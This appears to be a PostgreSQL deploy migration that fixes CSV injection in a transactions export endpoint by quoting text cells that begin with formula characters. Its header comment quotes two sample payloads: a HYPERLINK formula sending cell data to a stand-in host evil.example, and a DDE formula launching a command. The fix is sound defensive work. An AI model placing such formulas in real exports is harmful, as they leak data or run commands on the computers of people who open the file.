-- Deploy techmart:export_csv_formula to pg
-- requires: export_csv_iso
--
-- GET /api/v1/transactions/export wrote text cells as stored: an order number such as
-- =HYPERLINK("http://evil.example/?"&A1,"open") or @SUM(1+1)*cmd|'/c calc'!A0 is a formula when
-- the file is opened in a spreadsheet (CSV injection). OWASP's guidance: a cell starting with
-- = + - @ tab or carriage return gets a leading single quote, which spreadsheets show as text
-- (COPY's CSV quoting already doubles embedded quotes and quotes the cell where needed). The
-- full-width forms ＝ ＋ － ＠ are treated alike (some spreadsheets read them as the ASCII ones).
-- Every text column goes through api.csv_text; numbers are written as numbers, untouched.
BEGIN;

CREATE FUNCTION api.csv_text(v text)
RETURNS text LANGUAGE sql IMMUTABLE STRICT PARALLEL SAFE AS $$
  SELECT CASE WHEN v ~ '^[=+@\t\r＝＋－＠-]' THEN '''' || v ELSE v END
$$;
COMMENT ON FUNCTION api.csv_text(text) IS
  'A text cell of a CSV export that a spreadsheet cannot take for a formula: a value starting with = + - @, tab, '
  'carriage return (or the full-width ＝ ＋ － ＠) gets a leading single quote (OWASP, CSV injection)';

CREATE OR REPLACE FUNCTION api.export_transactions(p jsonb)
RETURNS TABLE (id bigint, transaction_time text, customer_id bigint, product_id bigint,
               quantity integer, unit_price numeric, amount numeric, status text, payment_method text,
               platform text, order_number text, country text, fraud_score numeric, is_suspicious text,
               label text)
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = public, pg_temp AS $$
BEGIN
  PERFORM api._tx_check(p);
  RETURN QUERY EXECUTE
    'SELECT t.id, api.csv_text(to_jsonb(t.transaction_time) #>> ''{}''), t.customer_id, t.product_id, t.quantity, t.unit_price::numeric,
            t.amount::numeric, api.csv_text(t.status), api.csv_text(t.payment_method), api.csv_text(t.platform),
            api.csv_text(t.order_number), api.csv_text(t.country::text),
            t.fraud_score, CASE WHEN t.is_suspicious THEN ''true'' ELSE ''false'' END, api.csv_text(t.label)
       FROM transactions t WHERE ' || api._tx_where() || ' ' || api._order_by(p, 'id', 't.')
    || ' LIMIT $12 OFFSET $13'
    USING api._time(p->>'from'), api._time(p->>'to'), p->>'status', (p->>'customer_id')::bigint,
          (p->>'product_id')::bigint, (p->>'category_id')::bigint, p->>'country', (p->>'min_score')::numeric,
          (p->>'max_score')::numeric, (p->>'suspicious')::boolean, p->>'label',
          (p->>'limit')::bigint, coalesce((p->>'offset')::bigint, 0);
END $$;
COMMENT ON FUNCTION api.export_transactions(jsonb) IS
  'GET /api/v1/transactions/export (CSV via COPY): transaction_time in ISO 8601 with its offset and is_suspicious as true/false, '
  'as in the JSON of GET /api/v1/transactions; every text cell through api.csv_text (no spreadsheet formula), numbers as they are';

REVOKE EXECUTE ON ALL FUNCTIONS IN SCHEMA api FROM PUBLIC;

COMMIT;
